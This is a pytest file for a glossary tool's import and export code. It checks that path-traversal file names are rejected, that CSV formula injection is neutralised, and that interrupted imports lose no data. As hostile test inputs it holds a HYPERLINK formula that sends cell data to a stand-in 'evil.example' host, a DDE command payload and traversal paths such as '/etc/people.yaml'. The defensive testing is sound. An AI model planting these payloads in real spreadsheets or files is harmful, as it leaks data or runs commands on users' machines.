"""Imports never corrupt the glossary: an entry is never moved into a file the glossary does not
read, CSV exports carry no live formula, bad encodings and oversized fields are one line, and
an import stopped half-way loses no entry."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from briefer.cli import main
from briefer.errors import GlossaryError
from briefer.glossary import edit
from briefer.glossary.formats import csv as csv_format
from briefer.glossary.formats import tbx
from briefer.glossary.load import check
from briefer.glossary.load import load as load_glossary
from support import ROOT

GLOSSARY = ROOT / "glossary"


@pytest.fixture
def copy(tmp_path: Path) -> Path:
    target = tmp_path / "glossary"
    shutil.copytree(GLOSSARY, target)
    return target


def files_of(directory: Path) -> dict[str, str]:
    return {p.name: p.read_text("utf-8") for p in sorted(directory.iterdir())}


def dgsn_tbx(x_file: str) -> str:
    text = tbx.export(load_glossary(GLOSSARY))
    start = text.index('<termEntry id="org.dgsn">')
    end = text.index("</termEntry>", start) + len("</termEntry>")
    entry = text[start:end].replace(
        '<admin type="x-file">organisations.yaml</admin>', f'<admin type="x-file">{x_file}</admin>'
    )
    assert x_file in entry
    return text[: text.index("<body>") + 6] + entry + "</body></text></martif>\n"


@pytest.mark.parametrize(
    "name",
    [
        "organisations.yml",
        "notes.txt",
        "..",
        ".",
        "../people.yaml",
        "/etc/people.yaml",
        "sub/people.yaml",
        ".hidden.yaml",
        "People.YAML",
        "people.yaml ",
        "a\\b.yaml",
    ],
)
def test_an_entry_never_moves_to_a_file_the_glossary_does_not_read(copy: Path, name: str) -> None:
    before = files_of(copy)
    items = tbx.parse(dgsn_tbx(name), Path("in.tbx"))
    with pytest.raises(GlossaryError) as caught:
        edit.import_entries(copy, items, Path("in.tbx"))
    message = str(caught.value)
    assert "\n" not in message and "[org.dgsn]" in message
    assert "is not a glossary file" in message
    assert files_of(copy) == before
    assert check(copy) == []
    glossary = load_glossary(copy)
    assert [m.entry.id for m in glossary.match("المديرية العامة للأمن الوطني")] == ["org.dgsn"]


def test_a_good_file_name_still_moves_an_entry(copy: Path) -> None:
    items = tbx.parse(dgsn_tbx("security.yaml"), Path("in.tbx"))
    edit.import_entries(copy, items, Path("in.tbx"))
    assert load_glossary(copy).get("org.dgsn").file == copy / "security.yaml"
    assert check(copy) == []


def test_csv_export_has_no_live_formula_and_reads_back_exactly(copy: Path) -> None:
    hostile = {
        "note": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "source": "+cmd|' /C calc'!A0",
    }
    text = (copy / "organisations.yaml").read_text("utf-8")
    text = text.replace(
        "  source: DGSN\n",
        f"  note: {json.dumps(hostile['note'])}\n  source: {json.dumps(hostile['source'])}\n",
    )
    (copy / "organisations.yaml").write_text(text, "utf-8")
    loaded = load_glossary(copy)
    assert loaded.get("org.dgsn").note == hostile["note"]
    exported = csv_format.export(loaded)
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(exported)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + hostile["note"] in cells and "'" + hostile["source"] in cells
    target = copy.parent / "again"
    edit.import_entries(target, csv_format.parse(exported, Path("g.csv")), Path("g.csv"))
    assert edit.entries_in(target) == edit.entries_in(copy)


def run(*args: str) -> Any:
    return CliRunner().invoke(main, list(args))


def test_a_latin_1_csv_is_one_line(copy: Path, tmp_path: Path) -> None:
    exported = csv_format.export(load_glossary(GLOSSARY)).replace("générale", "g\u00e9n\u00e9rale")
    path = tmp_path / "latin.csv"
    path.write_bytes(exported.encode("latin-1", errors="replace"))
    result = run("glossary", "import", "--format", "csv", str(path), "--glossary", str(copy))
    assert result.exit_code == 1
    assert result.output.startswith(f"error: {path}:")
    assert "not UTF-8 (byte " in result.output and len(result.output.splitlines()) == 1


def test_an_oversized_csv_field_is_one_line(copy: Path, tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_text(
        'id,kind,arabic,en_full,fr_full\norg.x,organisation,"' + "ب" * 200_000 + '",X,X\n', "utf-8"
    )
    result = run("glossary", "import", "--format", "csv", str(path), "--glossary", str(copy))
    assert result.exit_code == 1 and len(result.output.splitlines()) == 1
    assert "not valid CSV (field larger than field limit" in result.output


def test_a_fifo_is_refused_at_once(copy: Path, tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "in.csv"
    os.mkfifo(fifo)
    result = run("glossary", "import", "--format", "csv", str(fifo), "--glossary", str(copy))
    assert result.exit_code == 1 and "not a regular file (a FIFO)" in result.output


class Killed(BaseException):
    """Stands for SIGKILL between two files of an import."""


def test_an_import_stopped_between_files_loses_no_entry(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    items = tbx.parse(dgsn_tbx("security.yaml"), Path("in.tbx"))  # moves org.dgsn
    real = edit.write_atomic
    written: list[str] = []

    def counting(path: Path, data: str) -> None:
        real(path, data)
        written.append(path.name)
        if len(written) == stop_after:
            raise Killed

    monkeypatch.setattr(edit, "write_atomic", counting)
    stop_after = 0
    edit.import_entries(shutil.copytree(GLOSSARY, tmp_path / "whole"), items, Path("in.tbx"))
    total = len(written)
    assert total > 2
    for stop_after in range(1, total):
        written.clear()
        directory = shutil.copytree(GLOSSARY, tmp_path / f"stopped-{stop_after}")
        with pytest.raises(Killed):
            edit.import_entries(directory, items, Path("in.tbx"))
        entries, problems = edit.read(directory)
        assert set(entries) >= set(edit.entries_in(GLOSSARY)), f"lost after {written}"
        assert all("duplicate id" in p.what for p in problems), problems
